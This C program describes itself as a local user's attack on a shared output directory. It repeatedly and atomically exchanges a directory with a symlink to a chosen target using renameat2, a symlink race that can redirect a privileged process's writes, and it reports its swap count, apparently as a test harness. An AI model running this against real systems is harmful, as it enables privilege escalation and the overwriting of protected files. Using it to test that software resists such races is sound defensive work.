/*
 * A local user's attack on a shared output directory: exchange DIR/NAME (a directory of
 * the attacker's) and DIR/NAME.lnk (a symbolic link to TARGET) atomically, again and
 * again, for at most SECONDS seconds; print how many exchanges it made.
 * Usage: outdir_swapper DIR NAME TARGET SECONDS
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv)
{
	if (argc != 5) {
		fprintf(stderr, "usage: outdir_swapper DIR NAME TARGET SECONDS\n");
		return 2;
	}
	int dir = open(argv[1], O_DIRECTORY | O_RDONLY);
	if (dir < 0) {
		perror("open");
		return 1;
	}
	char link[4096];
	snprintf(link, sizeof link, "%s.lnk", argv[2]);
	unlinkat(dir, link, 0);
	if (mkdirat(dir, argv[2], 0777) != 0 && errno != EEXIST) {
		perror("mkdirat");
		return 1;
	}
	if (symlinkat(argv[3], dir, link) != 0) {
		perror("symlinkat");
		return 1;
	}
	time_t end = time(NULL) + atoi(argv[4]);
	long swaps = 0;
	printf("ready\n");
	fflush(stdout);
	while (time(NULL) < end) {
		for (int i = 0; i < 1000; i++) {
			if (syscall(SYS_renameat2, dir, argv[2], dir, link, RENAME_EXCHANGE) != 0) {
				perror("renameat2");
				return 1;
			}
			swaps++;
		}
	}
	/* Leave the real directory at its name. */
	struct stat st;
	if (fstatat(dir, argv[2], &st, AT_SYMLINK_NOFOLLOW) == 0 && S_ISLNK(st.st_mode)) {
		syscall(SYS_renameat2, dir, argv[2], dir, link, RENAME_EXCHANGE);
	}
	printf("swaps %ld\n", swaps);
	return 0;
}
